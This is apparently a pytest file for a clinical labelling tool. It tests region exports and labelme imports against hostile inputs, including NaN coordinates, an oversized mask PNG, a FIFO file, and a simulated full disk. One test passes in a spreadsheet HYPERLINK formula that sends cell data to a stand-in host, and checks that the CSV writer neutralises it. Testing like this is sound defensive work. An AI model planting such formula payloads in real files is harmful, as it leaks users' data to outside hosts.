"""Attack: region exports and the labelme import against hostile names, files and numbers."""

from __future__ import annotations

import base64
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

from clinlabel.domain.regions import Extent
from clinlabel.errors import ImportFileError, OutputError
from clinlabel.labelling.audit_trail import read_events
from clinlabel.labelling.labelme_import import import_labelme
from clinlabel.labelling.project import Project, init_project, open_project
from clinlabel.labelling.region_exports import export_regions
from clinlabel.labelling.regions import RegionEdit

from .region_project import PHOTO, SCHEMA, Drawer, make_region_batch


@pytest.fixture
def project(tmp_path: Path, database_url: str | None) -> Iterator[Project]:
    batch = make_region_batch(tmp_path / "Batch")
    schema = tmp_path / "schema.toml"
    schema.write_text(SCHEMA)
    init_project(batch, tmp_path / "project", schema_path=schema, database_url=database_url)
    with open_project(tmp_path / "project") as opened:
        yield opened


def _draw(project: Project, annotator: str, x: float) -> None:
    drawer = Drawer(project, annotator)
    drawer.draw(PHOTO, "Lesion", "box", {"x": x, "y": 2, "w": 6, "h": 4})
    drawer.close()


@pytest.mark.parametrize("fmt", ["labelme", "png"])
def test_attack_annotators_whose_names_clean_to_one_folder_keep_their_own_files(
    project: Project, tmp_path: Path, fmt: str
) -> None:
    # "Dr A" and "Dr_A" are two people; both names make the folder "Dr_A".
    _draw(project, "Dr A", 1)
    _draw(project, "Dr_A", 20)
    result = export_regions(project, fmt, out=tmp_path / "out", actor="lead")
    folders = sorted(p.name for p in (tmp_path / "out").iterdir() if p.is_dir())
    assert len(folders) == 2, folders
    # Each file is written once: no annotator's export replaced the other's.
    assert len(result.files) == len(set(result.files))


def test_attack_an_image_replaced_by_one_of_other_size_is_refused_by_the_export(
    project: Project, tmp_path: Path
) -> None:
    drawer = Drawer(project, "Dr A")
    painted = np.zeros((30, 40), dtype=bool)
    painted[2:5, 30:39] = True
    from clinlabel.domain.regions import mask_from_array

    drawer.draw(PHOTO, "Vessel", "brush", mask_from_array(painted))
    drawer.draw(PHOTO, "Lesion", "box", {"x": 30, "y": 2, "w": 9, "h": 4})
    drawer.close()
    # The file is swapped for a smaller picture after the regions were drawn.
    Image.new("RGB", (20, 16), (1, 2, 3)).save(project.batch / PHOTO)
    for fmt in ("png", "coco", "labelme", "nifti"):
        with pytest.raises(OutputError) as raised:
            export_regions(project, fmt, out=tmp_path / f"out-{fmt}", actor="lead")
        assert PHOTO in raised.value.message
        assert "40 x 30" in raised.value.message and "20 x 16" in raised.value.message
        assert not (tmp_path / f"out-{fmt}").exists() or not any(
            (tmp_path / f"out-{fmt}").iterdir()
        )


def _png_b64(width: int, height: int) -> str:
    out = io.BytesIO()
    Image.new("L", (width, height), 255).save(out, format="PNG")
    return base64.b64encode(out.getvalue()).decode()


def _write(folder: Path, shapes: list[dict[str, Any]]) -> None:
    path = folder / "Case_A/Visit_1/XC/photo.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    document = {
        "version": "5.5.0",
        "flags": {},
        "shapes": shapes,
        "imagePath": "photo.png",
        "imageData": None,
        "imageHeight": 30,
        "imageWidth": 40,
    }
    # allow_nan: Python's json (and labelme's) reads NaN and Infinity.
    path.write_text(json.dumps(document, allow_nan=True))


@pytest.mark.parametrize(
    "points",
    [
        [[float("nan"), 1], [4, 4]],
        [[float("inf"), 1], [4, 4]],
        [[1, 1], [10**400, 4]],
    ],
)
def test_attack_a_mask_with_non_finite_corners_is_one_clear_line(
    project: Project, tmp_path: Path, points: list[list[float]]
) -> None:
    _write(tmp_path / "in", [{"label": "Vessel", "points": points, "shape_type": "mask",
                              "mask": _png_b64(4, 4)}])  # fmt: skip
    before = len(read_events(project.dir, limit=0))
    with pytest.raises(ImportFileError) as raised:
        import_labelme(project, tmp_path / "in", annotator="Dr A")
    assert "Case_A/Visit_1/XC/photo.json: shape 1" in raised.value.message
    assert len(read_events(project.dir, limit=0)) == before


def test_attack_a_rectangle_with_a_huge_integer_is_one_clear_line(
    project: Project, tmp_path: Path
) -> None:
    _write(tmp_path / "in", [{"label": "Lesion", "points": [[1, 1], [10**400, 4]],
                              "shape_type": "rectangle"}])  # fmt: skip
    with pytest.raises(ImportFileError, match="shape 1"):
        import_labelme(project, tmp_path / "in", annotator="Dr A")


def test_attack_a_huge_mask_png_is_refused_before_it_is_decoded(
    project: Project, tmp_path: Path
) -> None:
    # A small file of a 20000 x 20000 picture (400 M pixels): refused by its header.
    _write(tmp_path / "in", [{"label": "Vessel", "points": [[0, 0], [19999, 19999]],
                              "shape_type": "mask", "mask": _png_b64(20000, 20000)}])  # fmt: skip
    with pytest.raises(ImportFileError, match="shape 1"):
        import_labelme(project, tmp_path / "in", annotator="Dr A")


@pytest.mark.parametrize("fmt", ["png", "labelme"])
def test_attack_exporting_again_into_the_same_folder_works(
    project: Project, tmp_path: Path, fmt: str
) -> None:
    # The masks' tree mirrors the batch (Case/Visit/XC/...), so the first export's folder
    # looked like a batch and the second export was refused "inside the batch folder".
    _draw(project, "Dr A", 1)
    export_regions(project, fmt, actor="lead")
    _draw(project, "Dr A", 20)
    again = export_regions(project, fmt, actor="lead")
    assert again.regions == 2
    export_regions(project, fmt, out=tmp_path / "mine", actor="lead")
    export_regions(project, fmt, out=tmp_path / "mine", actor="lead")


def test_attack_a_batch_like_folder_the_project_never_exported_to_is_still_refused(
    project: Project, tmp_path: Path
) -> None:
    _draw(project, "Dr A", 1)
    other = make_region_batch(tmp_path / "Other")
    with pytest.raises(OutputError, match="inside the batch folder"):
        export_regions(project, "png", out=other, actor="lead")


def test_attack_two_images_of_one_stem_get_a_labelme_file_each(tmp_path: Path) -> None:
    # photo.png and photo.jpg side by side: labelme names both photo.json.
    batch = make_region_batch(tmp_path / "Batch")
    jpeg = "Case_A/Visit_1/XC/photo.jpg"
    Image.new("RGB", (40, 30), (10, 60, 30)).save(batch / jpeg)
    schema = tmp_path / "schema.toml"
    schema.write_text(SCHEMA)
    init_project(batch, tmp_path / "project", schema_path=schema)
    with open_project(tmp_path / "project") as project:
        drawer = Drawer(project, "Dr A")
        drawer.draw(PHOTO, "Lesion", "box", {"x": 1, "y": 2, "w": 6, "h": 4})
        drawer.editor.save(
            RegionEdit("j1", drawer.ids[jpeg], "Lesion", "box", {"x": 20, "y": 2, "w": 6, "h": 4}),
            extent=Extent(40, 30),
            frames=1,
        )
        drawer.close()
        result = export_regions(project, "labelme", out=tmp_path / "lm", actor="lead")
        documents = [json.loads(p.read_text()) for p in result.files]
        names = sorted(d["imagePath"].rsplit("/", 1)[-1] for d in documents)
        assert names == ["photo.jpg", "photo.png"]
        # And the files come back in as they went out, each to its own image.
        report = import_labelme(project, tmp_path / "lm", annotator="Dr B")
        assert report.regions == 2
        # Moved away from the batch (imagePath leads nowhere): the tree's names still tell.
        for path in result.files:
            document = json.loads(path.read_text())
            document["imagePath"] = "elsewhere/" + document["imagePath"].rsplit("/", 1)[-1]
            path.write_text(json.dumps(document))
        assert import_labelme(project, tmp_path / "lm", annotator="Dr C").regions == 2


@pytest.mark.parametrize("fmt", ["png", "labelme", "nifti"])
def test_attack_exporting_again_leaves_no_file_of_a_deleted_region(
    project: Project, tmp_path: Path, fmt: str
) -> None:
    drawer = Drawer(project, "Dr A")
    kept = drawer.draw(PHOTO, "Lesion", "box", {"x": 1, "y": 2, "w": 6, "h": 4})
    gone = drawer.draw(
        "Case_C/Visit_1/XC/ct.nii.gz", "Lesion", "box", {"x": 0, "y": 0, "w": 2, "h": 2},
        frame=2, plane="axial",
    ) if fmt == "nifti" else drawer.draw(
        "Case_B/Visit_1/XC/run.dcm", "Lesion", "box", {"x": 0, "y": 0, "w": 2, "h": 2}, frame=1
    )  # fmt: skip
    out = tmp_path / "out"
    first = export_regions(project, fmt, out=out, actor="lead")
    drawer.editor.delete(gone)
    second = export_regions(project, fmt, out=out, actor="lead")
    # The folder holds what the second export wrote, and nothing of the deleted region.
    on_disk = sorted(p for p in out.rglob("*") if p.is_file())
    assert on_disk == sorted(second.files)
    assert len(first.files) > len(second.files)
    # A file someone put there by hand is not the export's to remove.
    (out / "notes.txt").write_text("mine")
    export_regions(project, fmt, out=out, actor="lead")
    assert (out / "notes.txt").read_text() == "mine"
    assert kept


@pytest.mark.parametrize("fmt", ["png", "labelme", "coco", "nifti"])
def test_attack_a_full_disk_half_way_leaves_the_earlier_export_and_no_event(
    project: Project, tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno
    import os

    drawer = Drawer(project, "Dr A")
    drawer.draw(PHOTO, "Lesion", "box", {"x": 1, "y": 2, "w": 6, "h": 4})
    drawer.draw(
        "Case_C/Visit_1/XC/ct.nii.gz", "Lesion", "box", {"x": 0, "y": 0, "w": 2, "h": 2},
        frame=2, plane="axial",
    )  # fmt: skip
    out = tmp_path / "out"
    first = export_regions(project, fmt, out=out, actor="lead")
    before = {p: p.read_bytes() for p in first.files}
    events = len(read_events(project.dir, limit=0))
    drawer.draw(PHOTO, "Vessel", "box", {"x": 20, "y": 2, "w": 6, "h": 4})
    real_write = os.write

    def full(fd: int, data: bytes) -> int:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "write", full)
    real_fsync = os.fsync

    def full_fsync(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full_fsync)
    with pytest.raises(OutputError, match="disk is full") as raised:
        export_regions(project, fmt, out=out, actor="lead")
    # Named in the folder asked for, not the hidden staging folder (gone by then).
    assert ".clinlabel-export-" not in raised.value.message
    assert str(out) in raised.value.message
    monkeypatch.setattr(os, "write", real_write)
    monkeypatch.setattr(os, "fsync", real_fsync)
    assert {p: p.read_bytes() for p in first.files} == before
    assert sorted(p for p in out.rglob("*") if p.is_file()) == sorted(first.files)
    assert len(read_events(project.dir, limit=0)) == events + 1  # the new region's only
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".out.")]


@pytest.mark.parametrize("frame", [-1, True])
def test_attack_a_medical_labelme_frame_that_is_no_frame_is_refused(
    project: Project, tmp_path: Path, frame: object
) -> None:
    # medical-labelme numbers frames from 0; -1 would land on 0, the whole file.
    path = tmp_path / "in" / "Case_B/Visit_1/XC/run.json"
    path.parent.mkdir(parents=True)
    shape = {"label": "Vessel", "points": [[1, 1], [5, 5]], "shape_type": "rectangle"}
    page = {"frame": frame, "width": 24, "height": 32, "shapes": [shape]}
    path.write_text(json.dumps({"version": "5.5.0", "image_path": "run.dcm", "frames": [page]}))
    with pytest.raises(ImportFileError, match="frame"):
        import_labelme(project, tmp_path / "in", annotator="Dr A")


def test_attack_split_names_that_differ_only_in_case_are_refused() -> None:
    from clinlabel.errors import ValidationError
    from clinlabel.exports.splits import parse_split

    with pytest.raises(ValidationError, match="named twice"):
        parse_split("Train=0.5,train=0.5", seed=1)


def _good_labelme(folder: Path) -> None:
    _write(folder, [{"label": "Lesion", "points": [[1, 1], [5, 5]], "shape_type": "rectangle"}])


def test_attack_a_folder_named_like_a_labelme_file_is_not_read(
    project: Project, tmp_path: Path
) -> None:
    _good_labelme(tmp_path / "in")
    (tmp_path / "in" / "Case_A" / "notes.json").mkdir()
    assert import_labelme(project, tmp_path / "in", annotator="Dr A").regions == 1


def test_attack_a_fifo_named_like_a_labelme_file_does_not_hang_the_import(
    project: Project, tmp_path: Path
) -> None:
    import errno
    import os
    import threading

    _good_labelme(tmp_path / "in")
    fifo = tmp_path / "in" / "Case_A" / "pipe.json"
    os.mkfifo(fifo)
    done = threading.Event()

    def unblock() -> None:
        # Had the import opened the pipe for reading, it would wait for a writer for ever:
        # this one answers it (with no labelme file) so the test ends either way.
        while not done.is_set():
            try:
                fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
            except OSError as exc:
                if exc.errno != errno.ENXIO:
                    return
                done.wait(0.05)
                continue
            os.write(fd, b"[]")
            os.close(fd)
            return

    helper = threading.Thread(target=unblock, daemon=True)
    helper.start()
    try:
        assert import_labelme(project, tmp_path / "in", annotator="Dr A").regions == 1
    finally:
        done.set()
        helper.join()


def test_attack_an_output_folder_with_a_name_of_the_longest_length_is_written(
    project: Project, tmp_path: Path
) -> None:
    # 255 bytes is the longest name most file systems allow: the staging folder beside it
    # must not need a longer one.
    _draw(project, "Dr A", 1)
    out = tmp_path / ("é" * 100 + "x" * 55)  # 255 bytes in UTF-8
    result = export_regions(project, "png", out=out, actor="lead")
    assert result.folder == out.resolve() and (out / "legend.json").is_file()


def test_attack_an_output_folder_that_cannot_be_made_is_one_clear_error(
    project: Project, tmp_path: Path
) -> None:
    _draw(project, "Dr A", 1)
    (tmp_path / "a_file").write_text("not a folder")
    with pytest.raises(OutputError, match="Cannot write"):
        export_regions(project, "png", out=tmp_path / "a_file" / "out", actor="lead")


def test_attack_an_output_folder_whose_parent_cannot_be_written_is_one_clear_error(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno
    import os
    import tempfile

    _draw(project, "Dr A", 1)

    def refused(**_: object) -> str:  # as a read-only parent answers (root is never refused)
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES))

    monkeypatch.setattr(tempfile, "mkdtemp", refused)
    with pytest.raises(OutputError, match="Cannot write beside"):
        export_regions(project, "png", out=tmp_path / "out", actor="lead")


def test_attack_a_case_named_like_a_formula_is_text_in_splits_csv(tmp_path: Path) -> None:
    import csv

    from clinlabel.exports.splits import write_splits_csv

    path = write_splits_csv(
        tmp_path / "splits.csv",
        {'=HYPERLINK("http://x/?"&A1,"x")': "train", "-5": "test", "Case_1": "train"},
        {'=HYPERLINK("http://x/?"&A1,"x")': "@SUM(1)"},
        {"Case_1": 2},
    )
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert ["'-5", "test", "", "0"] in rows and ["Case_1", "train", "", "2"] in rows


def test_attack_two_volumes_of_one_stem_get_a_label_map_each(tmp_path: Path) -> None:
    import nibabel as nib

    # ct.nii and ct.nii.gz side by side: both label maps were ct.labels.nii.gz.
    batch = make_region_batch(tmp_path / "Batch")
    plain = "Case_C/Visit_1/XC/ct.nii"
    nib.save(nib.Nifti1Image(np.ones((6, 5, 4), dtype=np.int16), np.eye(4)), batch / plain)
    schema = tmp_path / "schema.toml"
    schema.write_text(SCHEMA)
    init_project(batch, tmp_path / "project", schema_path=schema)
    with open_project(tmp_path / "project") as project:
        drawer = Drawer(project, "Dr A")
        for relpath in ("Case_C/Visit_1/XC/ct.nii.gz", plain):
            drawer.draw(relpath, "Lesion", "box", {"x": 0, "y": 0, "w": 2, "h": 2},
                        frame=2, plane="axial")  # fmt: skip
        drawer.close()
        result = export_regions(project, "nifti", out=tmp_path / "n", actor="lead")
    maps = sorted(p.name for p in result.files if p.name.endswith(".nii.gz"))
    assert len(maps) == 2 and len(set(result.files)) == len(result.files)
    sources = sorted(
        json.loads(p.read_text())["source"] for p in result.files if p.name.endswith(".json")
        and p.name != "labels.json"
    )  # fmt: skip
    assert sources == ["Case_C/Visit_1/XC/ct.nii", "Case_C/Visit_1/XC/ct.nii.gz"]
